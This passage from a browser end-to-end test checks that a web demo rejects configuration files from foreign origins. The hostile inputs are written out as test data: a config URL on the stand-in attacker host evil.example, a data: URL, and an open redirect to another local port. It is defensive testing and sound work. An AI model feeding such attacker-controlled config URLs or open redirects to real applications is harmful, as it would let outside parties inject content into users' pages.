  expect(requests.filter((url) => new URL(url).hostname === "evil.example")).toEqual([]);

  await page.goto(
    `${origin()}/demo/index.html?engine=deterministic&config=${encodeURIComponent("https://evil.example/config.json")}`,
  );
  await expect(page.locator("#status")).toContainText("from this site only", { timeout: 30_000 });
  await page.goto(
    `${origin()}/demo/index.html?engine=deterministic&config=${encodeURIComponent('data:application/json,{"models":[]}')}`,
  );
  await expect(page.locator("#status")).toContainText("from this site only", { timeout: 30_000 });
  expect(requests.filter((url) => new URL(url).hostname === "evil.example")).toEqual([]);

  // A path of this site that redirects elsewhere (an open redirect), to an origin the page's
  // policy lets it reach (this machine's loopback, a port of its own): the file is read where the
  // redirect ended, so it is refused. The context routes it, as the demo's worker makes the fetch.
  const served: string[] = [];
  const foreignServer = createServer((request, response) => {
    served.push(request.url ?? "");
    response.writeHead(200, { "content-type": "application/json", "access-control-allow-origin": "*" });
    response.end(JSON.stringify({ models: [{ id: "rerouted" }] }));
  });
  await new Promise<void>((listening) => foreignServer.listen(0, "127.0.0.1", listening));
  const foreign = `http://127.0.0.1:${(foreignServer.address() as AddressInfo).port}/config.json`;
  try {
    await page.context().route(
      (url) => url.pathname === "/demo/redirect-config.json",
      (route) => route.fulfill({ status: 302, headers: { location: foreign } }),
    );
    await page.goto(`${origin()}/demo/index.html?engine=deterministic&config=/demo/redirect-config.json`);
    await expect(page.locator("#status")).toContainText(`redirected to ${foreign}`, { timeout: 30_000 });
    expect(served).toEqual(["/config.json"]);
  } finally {
    foreignServer.close();
  }
});
